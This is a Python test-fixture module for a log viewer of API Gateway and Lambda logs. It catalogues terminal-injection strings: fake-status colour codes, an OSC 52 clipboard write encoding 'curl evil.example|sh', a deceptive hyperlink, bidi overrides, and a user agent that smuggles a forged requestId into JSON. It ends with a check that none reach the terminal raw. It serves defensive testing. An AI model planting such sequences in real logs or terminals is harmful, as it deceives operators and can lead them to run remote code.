"""Hostile text: what a caller of the API can make appear in its logs, and the check that none of
it reaches a terminal raw. Shared by every front end's tests (plain output now, the TUI later).

`HOSTILE` names each trick; `PAYLOAD` holds them all in one string; `TOKEN` is the same without
whitespace or commas, for the places a parser reads one word (an HTTP method, a path). The
`*_line` helpers build the messages apilogs parses, with hostile text where each parser takes a
value out of the line: method, path, error message, exception type, cause, user agent, IDs.
`assert_terminal_safe` is the check for human output.
"""

from __future__ import annotations

import json
import re
from bisect import bisect_right

from apilogs.render.sanitize import UNSAFE_RANGES
from apilogs.render.style import (
    BOLD,
    BRIGHT_BLUE,
    BRIGHT_CYAN,
    BRIGHT_GREEN,
    BRIGHT_MAGENTA,
    BRIGHT_RED,
    BRIGHT_YELLOW,
    CYAN,
    DIM,
    GREEN,
    MAGENTA,
    RED,
    YELLOW,
)

HOSTILE: dict[str, str] = {
    # Colour codes that fake a status, in apilogs's own codes and in others.
    "sgr_fake_ok": "\x1b[32m200 OK\x1b[0m",
    "sgr_256": "\x1b[38;5;196mCRITICAL\x1b[5;7m",
    "csi_clear_screen": "\x1b[2J\x1b[H\x1b[3J",
    "csi_cursor_up_erase": "\x1b[1A\x1b[2K",
    "osc8_hyperlink": "\x1b]8;;https://evil.example/\x1b\\https://aws.amazon.com\x1b]8;;\x1b\\",
    "osc52_clipboard": "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07",
    "osc_title": "\x1b]0;pwned\x07",
    "dcs": "\x1bP+q544e\x1b\\",
    "c1_csi": "\x9b31mred\x9b0m",
    "c1_osc": "\x9d0;title\x9c",
    "c1_other": "\x85\x8d\x90\x9f",
    "bel": "ding\x07\x07",
    "cr_overwrite": "status=500\rstatus=200",
    "backspace_overwrite": "FAIL\x08\x08\x08\x08PASS",
    "nul": "a\x00b",
    "del": "a\x7fb",
    "form_feed_vt": "a\x0c\x0bb",
    "bidi_override": "\u202eevil\u202c",
    "bidi_isolates": "\u2066\u2067\u2068x\u2069",
    "bidi_marks": "\u200e\u200f\u061c",
    "zero_width": "a\u200b\u200c\u200d\u2060\ufeffb",
    "soft_hyphen": "pass\u00adword",
    "line_separators": "one\u2028two\u2029three",
    "tags": "\U000e0001\U000e0061\U000e0064\U000e006d\U000e0069\U000e006e\U000e007f",
    "lone_surrogates": "\ud800x\udfff\udbff",
    "interlinear": "\ufff9a\ufffab\ufffb",
    "rich_markup": "[bold red]FAKE[/bold red] [link=https://evil]x[/link] [@click=app.quit]q[/]",
    "textual_markup": "[$accent]x[/] [b]y[/b] [reverse]z[/]",
}

PAYLOAD = " ".join(HOSTILE.values())
# One word: what a parser reading `HTTP Method: (\S+),` or `Resource Path: (\S*)` keeps.
TOKEN = "".join(c for c in PAYLOAD if not c.isspace() and c != ",")

RID = "6605b081-6f04-11e6-97ac-c34deb0b3dd9"
# An ID that is not one: it must never be trusted, and never shown raw.
FORGED_ID = "\u202e\u2066\x9b2J\x1b]8;;https://evil\x07"
# A caller's user agent that closes the JSON string and writes a requestId of its own.
SMUGGLED_AGENT = f'x","requestId":"{FORGED_ID}'

DEEP_JSON = '{"a":' * 1000 + json.dumps(PAYLOAD) + "}" * 1000
WIDE_JSON = "{" + ",".join(f'"k{i}":[{{}},{{}},"{i}"]' for i in range(8000)) + "}"
INVALID_JSON = '{"message": "' + PAYLOAD + '", "status": 500,'
LONG_LINE = (PAYLOAD + " ") * 40 + "x" * 200_000

ACCESS_JSON_FORMAT = (
    '{"requestId":"$context.requestId","extendedRequestId":"$context.extendedRequestId",'
    '"httpMethod":"$context.httpMethod","path":"$context.path","status":"$context.status",'
    '"responseLatency":"$context.responseLatency","integrationLatency":"$context.integrationLatency",'
    '"userAgent":"$context.identity.userAgent","error":"$context.integrationErrorMessage",'
    '"awsEndpointRequestId":"$context.awsEndpointRequestId","xrayTraceId":"$context.xrayTraceId",'
    '"authorizerRequestId":"$context.authorizer.requestId"}'
)


def access_line(
    request_id: str,
    *,
    status: int,
    method: str = "GET",
    path: str = "/orders",
    agent: str = "curl/8",
    error: str = "-",
    lambda_id: str = "-",
    trace: str = "-",
    extended: str = "-",
    authorizer: str = "-",
) -> str:
    """An access line in ACCESS_JSON_FORMAT, written as API Gateway writes it: values as they
    came, unescaped, so a quote in the agent ends its string."""
    return (
        f'{{"requestId":"{request_id}","extendedRequestId":"{extended}","httpMethod":"{method}",'
        f'"path":"{path}","status":"{status}","responseLatency":"31","integrationLatency":"20",'
        f'"userAgent":"{agent}","error":"{error}","awsEndpointRequestId":"{lambda_id}",'
        f'"xrayTraceId":"{trace}","authorizerRequestId":"{authorizer}"}}'
    )


def execution_lines(request_id: str, lambda_id: str, trace: str, extended: str) -> list[str]:
    """One failing request's execution log, hostile text wherever API Gateway copies caller or
    function text: method, path, the function's error."""
    return [
        f"({request_id}) Extended Request Id: {extended}",
        f"({request_id}) Starting execution for request: {request_id}",
        f"({request_id}) HTTP Method: {TOKEN}, Resource Path: /orders/{TOKEN}",
        f"({request_id}) X-ray Tracing ID : Root={trace}",
        f"({request_id}) Method request headers: {{User-Agent={PAYLOAD}}}",
        f"({request_id}) Endpoint response headers: {{x-amzn-RequestId={lambda_id}, "
        "X-Amz-Function-Error=Unhandled}",
        f"({request_id}) Endpoint response body before transformations: "
        + json.dumps({"errorType": TOKEN, "errorMessage": PAYLOAD}, ensure_ascii=False),
        f"({request_id}) Lambda execution failed with status 200 due to customer function error: "
        f"{PAYLOAD}. Lambda request id: {lambda_id}",
        f"({request_id}) Method completed with status: 502",
    ]


def lambda_lines(lambda_id: str, trace: str) -> list[str]:
    """One invocation's Lambda log, hostile text in its error type, messages and prints."""
    return [
        f"START RequestId: {lambda_id} Version: $LATEST\n",
        f"[INFO]\t2024-01-01T00:00:00.000Z\t{lambda_id}\t{PAYLOAD}\n",
        f"{PAYLOAD}\n",  # a print: attributed to the open invocation
        json.dumps(
            {"errorType": f"Boom{TOKEN}", "errorMessage": PAYLOAD, "requestId": lambda_id},
            ensure_ascii=False,
        ),
        f'{{"errorType":"Raw{TOKEN}","errorMessage":"{PAYLOAD}","requestId":"{lambda_id}"}}',
        f"[ERROR] KeyError{TOKEN[:40]}: {PAYLOAD}\nTraceback (most recent call last):\n"
        f'  File "/var/task/{TOKEN}.py", line 1\n',
        f"END RequestId: {lambda_id}\n",
        f"REPORT RequestId: {lambda_id}\tDuration: 12.50 ms\tBilled Duration: 13 ms\tMemory Size: "
        f"128 MB\tMax Memory Used: 64 MB\t\nXRAY TraceId: {trace}\tSegmentId: 1\tSampled: true\n",
    ]


# Messages that stress the line renderers whatever group they land in.
RAW_MESSAGES = [PAYLOAD, TOKEN, LONG_LINE, INVALID_JSON, DEEP_JSON, WIDE_JSON,
                json.dumps({"payload": PAYLOAD}), json.dumps({"payload": PAYLOAD}, ensure_ascii=False)]  # fmt: skip


# --- the check ---------------------------------------------------------------------------------

_STARTS = [low for low, _ in UNSAFE_RANGES]
# apilogs's own SGR codes (render/style.py), plus the reverse video of -H and the reset.
_OWN_CODES = frozenset(
    {"0", BOLD, DIM, "7", RED, GREEN, YELLOW, MAGENTA, CYAN, BRIGHT_RED, BRIGHT_GREEN,
     BRIGHT_YELLOW, BRIGHT_BLUE, BRIGHT_MAGENTA, BRIGHT_CYAN}
)  # fmt: skip
_SGR = re.compile(r"\x1b\[([0-9;]*)m")


def is_unsafe(char: str) -> bool:
    """In sanitize's UNSAFE_RANGES (which include \\n and \\t)."""
    code = ord(char)
    at = bisect_right(_STARTS, code) - 1
    return at >= 0 and UNSAFE_RANGES[at][0] <= code <= UNSAFE_RANGES[at][1]


def strip_own_sgr(text: str) -> str:
    """`text` without the SGR sequences apilogs itself writes; any other sequence stays."""
    return _SGR.sub(lambda m: "" if set(m.group(1).split(";")) <= _OWN_CODES else m.group(0), text)


def raw_sequences() -> list[str]:
    """Hostile strings that must never appear as they are in human output."""
    return [v for v in [*HOSTILE.values(), FORGED_ID] if any(is_unsafe(c) for c in v)]


def assert_terminal_safe(text: str, what: str = "output") -> None:
    """Once apilogs's own colour codes are gone, no unsafe character but \\n and \\t is left,
    and no hostile sequence survives raw (not even one that looks like apilogs's colours)."""
    rest = strip_own_sgr(text)
    found = sorted({f"U+{ord(c):04X}" for c in rest if c not in "\n\t" and is_unsafe(c)})
    assert not found, f"{what}: raw {', '.join(found[:12])} reached the terminal"
    for sequence in raw_sequences():
        assert sequence not in text, f"{what}: {sequence!r} reached the terminal as it is"
